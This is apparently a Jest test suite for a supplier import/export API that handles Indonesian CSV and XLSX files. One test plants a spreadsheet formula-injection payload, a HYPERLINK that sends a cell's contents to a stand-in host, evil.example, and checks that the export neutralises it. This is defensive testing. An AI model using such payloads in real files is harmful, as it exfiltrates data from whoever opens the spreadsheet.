import ExcelJS from 'exceljs';
import { createTestApp, TestApp } from '../support/app';
import { ADMIN_ENV, createUser, registerUser, TestUser } from '../support/accounts';
import { parse } from 'csv-parse/sync';
import { addCertification, createSupplier, randomNib, uniqueWord } from '../support/suppliers';
import { asBuffer, readWorkbook, XLSX } from '../support/workbooks';

/** A district office's list: Indonesian headers, semicolons, decimal commas. */
const HEADER =
  'nama;nib;kbli;skala;deskripsi;kode_kabupaten;alamat;lintang;bujur;proses;bahan;kategori_produk;kapasitas;satuan;jumlah_karyawan;tkdn;telepon;email';
const row = (tag: string, nib: string, overrides: Partial<Record<string, string>> = {}) => {
  const cells = {
    nama: `CV Mitra Las ${tag}`,
    nib,
    kbli: '25920',
    skala: 'small',
    deskripsi: `Pengelasan rangka motor ${tag}`,
    kode_kabupaten: '32.11',
    alamat: 'Jl. Raya Sumedang No. 5',
    lintang: '-6,85',
    bujur: '107,92',
    proses: 'welding.mig_mag, welding.spot',
    bahan: 'steel.carbon',
    kategori_produk: 'body_frame.motorcycle_frame',
    kapasitas: '1.500',
    satuan: 'pcs',
    jumlah_karyawan: '12',
    tkdn: '55,5',
    telepon: '0261 201234',
    email: 'mitralas@example.id',
    ...overrides,
  };
  return Object.values(cells).join(';');
};
const csv = (...rows: string[]) => Buffer.from([HEADER, ...rows].join('\n'));

describe('Supplier import and export', () => {
  let t: TestApp;
  let curator: TestUser;
  let owner: TestUser;
  beforeAll(async () => {
    t = await createTestApp({ env: ADMIN_ENV });
    curator = await createUser(t, 'curator');
    owner = await registerUser(t, 'ikm_owner');
  });
  afterAll(() => t.close());

  const upload = (file: Buffer, name: string, dryRun?: boolean, user: TestUser = curator) =>
    t.http
      .post('/api/v1/suppliers/imports')
      .query(dryRun === undefined ? {} : { dryRun })
      .set('Authorization', user.auth)
      .attach('file', file, name);
  /** The full profile of the first supplier (by name) that a search for the tag finds. */
  const firstTagged = async (tag: string) => {
    const found = await t.http
      .get('/api/v1/suppliers')
      .query({ q: tag, sort: 'name' })
      .set('Authorization', curator.auth)
      .expect(200);
    return (
      await t.http.get(`/api/v1/suppliers/${found.body.items[0].id}`).set('Authorization', curator.auth).expect(200)
    ).body as unknown;
  };
  const countTagged = async (tag: string) =>
    (await t.http.get('/api/v1/suppliers').query({ q: tag }).set('Authorization', curator.auth).expect(200)).body
      .total as number;

  it('reports problems by row and column in a dry run, writing nothing', async () => {
    const tag = uniqueWord();
    const nib = randomNib();
    const file = csv(
      row(tag, randomNib()),
      row(tag, '', { kode_kabupaten: '32.99' }),
      row(tag, nib, { proses: 'welding.laser_magic', tkdn: 'banyak', email: 'bukan-email' }),
      row(tag, nib),
    );
    const res = await upload(file, 'ikm-sumedang.csv', true).expect(200);
    expect(res.body).toMatchObject({ dryRun: true, rows: 4, created: 1 });
    expect(res.body.errors).toEqual(
      expect.arrayContaining([
        {
          row: 3,
          field: 'nib',
          message: 'nib wajib diisi saat impor: dengan NIB impor berikutnya menemukan pemasok yang sama',
        },
        { row: 4, field: 'tkdn_percent', message: expect.stringContaining('tkdnPercent') },
        { row: 4, field: 'email', message: expect.stringContaining('email') },
      ]),
    );
    expect(await countTagged(tag)).toBe(0);
  });

  it("reports every row's outcome, with an invalid row's cells under the file's own headers", async () => {
    const tag = uniqueWord();
    const [kept, fresh] = [randomNib(), randomNib()];
    await upload(csv(row(tag, kept)), 'first.csv').expect(200);
    const file = csv(row(tag, kept), row(tag, fresh), row(tag, randomNib(), { kode_kabupaten: '32.99' }));
    const res = await upload(file, 'second.csv', true).expect(200);
    expect(res.body.columns).toEqual(HEADER.split(';').map((header) => ({ column: expect.any(String), header })));
    expect(res.body.columns).toContainEqual({ column: 'regency_code', header: 'kode_kabupaten' });
    expect(res.body.results).toEqual([
      { row: 2, outcome: 'unchanged', name: `CV Mitra Las ${tag}`, nib: kept },
      { row: 3, outcome: 'create', name: `CV Mitra Las ${tag}`, nib: fresh },
      {
        row: 4,
        outcome: 'invalid',
        name: `CV Mitra Las ${tag}`,
        nib: expect.any(String),
        cells: expect.objectContaining({ regency_code: '32.99', name: `CV Mitra Las ${tag}`, tkdn_percent: '55,5' }),
      },
    ]);
    // The field of each error is a column of the cells, so that a reader can mark the cell at fault.
    expect(res.body.errors).toEqual([{ row: 4, field: 'regency_code', message: expect.any(String) }]);
  });

  it('refuses rows whose coordinates are implausibly far from their regency', async () => {
    const tag = uniqueWord();
    const file = csv(row(tag, randomNib()), row(tag, randomNib(), { lintang: '-6,2', bujur: '106,85' }));
    const res = await upload(file, 'ikm-sumedang.csv', true).expect(200);
    expect(res.body.errors).toEqual([
      { row: 3, field: 'lat', message: expect.stringContaining('dari pusat Kabupaten Sumedang') },
    ]);
    expect(res.body.errors[0].message).toContain('lebih dekat ke Kota Administrasi Jakarta Pusat');
  });

  it('imports nothing when any row is wrong', async () => {
    const tag = uniqueWord();
    const res = await upload(
      csv(row(tag, randomNib()), row(tag, randomNib(), { proses: 'nope' })),
      'x.csv',
      false,
    ).expect(400);
    expect(res.body).toMatchObject({
      type: 'https://rantai.id/problems/import-invalid',
      errors: [{ row: 3, field: 'processes', message: "kode proses 'nope' tidak dikenal" }],
    });
    expect(await countTagged(tag)).toBe(0);
  });

  it('creates by NIB, and repeating the import changes nothing; an edited row updates', async () => {
    const tag = uniqueWord();
    const nibs = [randomNib(), randomNib(), randomNib()];
    const file = csv(...nibs.map((nib) => row(tag, nib)));
    expect((await upload(file, 'a.csv').expect(200)).body).toMatchObject({
      dryRun: false,
      rows: 3,
      created: 3,
      updated: 0,
      unchanged: 0,
      errors: [],
    });
    expect(await countTagged(tag)).toBe(3);
    expect((await upload(file, 'a.csv').expect(200)).body).toMatchObject({ created: 0, updated: 0, unchanged: 3 });
    const edited = csv(row(tag, nibs[0], { jumlah_karyawan: '20' }), row(tag, nibs[1]));
    expect((await upload(edited, 'b.csv').expect(200)).body).toMatchObject({ created: 0, updated: 1, unchanged: 1 });
    expect(await firstTagged(tag)).toMatchObject({
      regencyCode: '32.11',
      location: { lat: -6.85, lng: 107.92 },
      processes: ['welding.mig_mag', 'welding.spot'],
      monthlyCapacity: { quantity: 1500, unit: 'pcs' },
      tkdnPercent: 55.5,
      contact: { phone: '+62261201234', email: 'mitralas@example.id' }, // sent as 0261 201234
    });
  });

  it('reads coordinates with three decimals as decimals, never as thousands', async () => {
    const tag = uniqueWord();
    const file = csv(row(tag, randomNib(), { lintang: '-6.512', bujur: '107.923', kapasitas: '1.500' }));
    expect((await upload(file, 'koordinat.csv').expect(200)).body).toMatchObject({ created: 1, errors: [] });
    expect(await firstTagged(tag)).toMatchObject({
      location: { lat: -6.512, lng: 107.923 },
      monthlyCapacity: { quantity: 1500, unit: 'pcs' },
    });
  });

  it('reads XLSX files as district offices keep them', async () => {
    const tag = uniqueWord();
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('IKM');
    sheet.addRow(HEADER.split(';'));
    sheet.addRow(row(tag, randomNib()).split(';'));
    sheet.addRow([]);
    sheet.addRow(row(tag, randomNib(), { lintang: '', bujur: '' }).split(';'));
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = await upload(buffer, 'ikm.xlsx').expect(200);
    expect(res.body).toMatchObject({ rows: 2, created: 2, errors: [] });
    expect(await countTagged(tag)).toBe(2);
  });

  it('refuses files over 5 MB or 20,000 rows, unknown columns, and a missing file', async () => {
    const big = await upload(Buffer.alloc(5 * 1024 * 1024 + 1, 'a'), 'big.csv', true).expect(413);
    expect(big.headers['content-type']).toMatch(/problem\+json/);
    const many = csv(...Array.from({ length: 20_001 }, () => 'x'));
    const tooMany = await upload(many, 'many.csv', true).expect(413);
    expect(tooMany.body.type).toBe('https://rantai.id/problems/too-many-rows');
    const odd = await upload(Buffer.from('nama;warna\nCV A;merah'), 'odd.csv', true).expect(400);
    expect(odd.body.detail).toMatch(/Unknown column\(s\): warna/);
    await t.http.post('/api/v1/suppliers/imports').set('Authorization', curator.auth).expect(400);
  });

  it('is for curators and admins only', async () => {
    await upload(csv(row('x', randomNib())), 'a.csv', true, owner).expect(403);
    await t.http.get('/api/v1/suppliers/export.csv').set('Authorization', owner.auth).expect(403);
  });

  it('exports CSV in the import format, without NPWP, that imports back unchanged', async () => {
    const tag = uniqueWord();
    await upload(csv(row(tag, randomNib()), row(tag, randomNib())), 'a.csv').expect(200);
    const res = await t.http
      .get('/api/v1/suppliers/export.csv')
      .set('Authorization', curator.auth)
      .buffer(true)
      .expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(
      /attachment; filename="rantai-suppliers-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const text: string = res.text;
    expect(text.split('\n')[0]).toBe(
      '\uFEFFname,nib,kbli,size_class,description,regency_code,address,lat,lng,processes,materials,product_categories,capacity_quantity,capacity_unit,employees,tkdn_percent,phone,email',
    );
    expect(text).not.toMatch(/npwp/i);
    const ours = [text.split('\n')[0], ...text.split('\n').filter((line) => line.includes(tag))].join('\n');
    const again = await upload(Buffer.from(ours), 'export.csv').expect(200);
    expect(again.body).toMatchObject({ rows: 2, created: 0, updated: 0, unchanged: 2, errors: [] });
  });

  it('never exports a cell a spreadsheet would run as a formula, and such cells import back as they were', async () => {
    const tag = uniqueWord();
    const attack = '=HYPERLINK("http://evil.example/steal?d="&A2,"Lihat sertifikat")';
    await createSupplier(t, owner, { description: `${attack} ${tag}` });
    const tabbed = randomNib();
    await upload(
      csv(row(tag, tabbed, { deskripsi: `"\t=1+2 ${tag}"`, telepon: '+62 812-2345-6789' })),
      'tab.csv',
    ).expect(200);
    const exported = await t.http
      .get('/api/v1/suppliers/export.csv')
      .set('Authorization', curator.auth)
      .buffer(true)
      .expect(200);
    const lines: string[] = exported.text.split('\n').filter((line: string) => line.includes(tag));
    expect(lines).toHaveLength(2);
    const cells = lines.flatMap((line): string[][] => parse(line)).flat();
    // Numbers (the negative latitudes) are written as numbers, which are never formulas.
    const formulaLike = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(formulaLike).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${attack} ${tag}`, `'=1+2 ${tag}`, "'+6281223456789"]));
    // Read back, the apostrophe is gone: the stored values are unchanged.
    const header = exported.text.split('\n')[0];
    const again = await upload(Buffer.from([header, ...lines].join('\n')), 'export.csv').expect(200);
    expect(again.body).toMatchObject({ rows: 2, created: 0, updated: 0, unchanged: 2, errors: [] });
  });

  it('exports for Excel set to Indonesian: semicolons, decimal commas, verification and certificates; imports back', async () => {
    const tag = uniqueWord();
    const created = await createSupplier(t, owner, {
      name: `CV Ekspor ${tag}`,
      regencyCode: '32.11',
      location: { lat: -6.85, lng: 107.92 },
      tkdnPercent: 55.5,
    });
    const id = created.id;
    const nib = created.nib as string;
    await addCertification(t, owner, id, { code: 'iso_9001', validUntil: '2099-01-01' });
    await addCertification(t, owner, id, { code: 'smk3', validUntil: '2020-01-31' });
    await t.http
      .post(`/api/v1/suppliers/${id}/verify`)
      .set('Authorization', curator.auth)
      .send({ verification: 'verified' })
      .expect(200);

    const res = await t.http
      .get('/api/v1/suppliers/export.csv?delimiter=semicolon')
      .set('Authorization', curator.auth)
      .buffer(true)
      .expect(200);
    const [header, ...lines] = res.text.split('\n');
    expect(header).toBe(
      '\uFEFFnama;nib;kode_kbli;skala_usaha;deskripsi;kode_kabupaten;alamat;lintang;bujur;proses;bahan;kategori_produk;kapasitas_bulanan;satuan_kapasitas;jumlah_karyawan;tkdn_persen;telepon;surel;verifikasi;sertifikat',
    );
    const ours = lines.filter((line) => line.includes(tag));
    const cells: string[] = parse(ours[0], { delimiter: ';' })[0];
    expect(cells.slice(7, 9)).toEqual(['-6,85', '107,92']);
    expect(cells[15]).toBe('55,5');
    expect(cells.slice(18)).toEqual(['Terverifikasi', 'iso_9001 (belum diverifikasi)']);
    const again = await upload(Buffer.from([header, ...ours].join('\n')), 'ekspor.csv').expect(200);
    expect(again.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1, errors: [] });

    await t.http.get('/api/v1/suppliers/export.csv?delimiter=tab').set('Authorization', curator.auth).expect(400);

    const download = async (language: string) => {
      const xlsx = await asBuffer(
        t.http.get('/api/v1/suppliers/export.xlsx').set('Authorization', curator.auth).set('Accept-Language', language),
      ).expect(200);
      expect(xlsx.headers['content-type']).toBe(XLSX);
      return [...(await readWorkbook(xlsx.body as Buffer))][0];
    };
    const [name, rows] = await download('id');
    expect(name).toBe('Pemasok');
    expect(rows[0]).toEqual(header.slice(1).split(';'));
    const mine = rows.find((r) => String(r[0]).includes(tag))!;
    expect(mine[1]).toBe(nib);
    expect(mine.slice(7, 9)).toEqual([-6.85, 107.92]);
    expect(mine[15]).toBe(55.5);
    expect(mine.slice(18)).toEqual(['Terverifikasi', 'iso_9001 (belum diverifikasi)']);
    const [english, englishRows] = await download('en');
    expect(english).toBe('Suppliers');
    expect(englishRows[0].slice(-3)).toEqual(['email', 'verification', 'certificates']);
    expect(englishRows.find((r) => String(r[0]).includes(tag))!.slice(18)).toEqual([
      'Verified',
      'iso_9001 (not verified)',
    ]);
    // The workbook imports back as it is.
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Pemasok');
    sheet.addRow(rows[0]);
    sheet.addRow(mine);
    const back = await upload(Buffer.from(await workbook.xlsx.writeBuffer()), 'ekspor.xlsx').expect(200);
    expect(back.body).toMatchObject({ rows: 1, unchanged: 1, errors: [] });
    await t.http.get('/api/v1/suppliers/export.xlsx').set('Authorization', owner.auth).expect(403);
  });
});
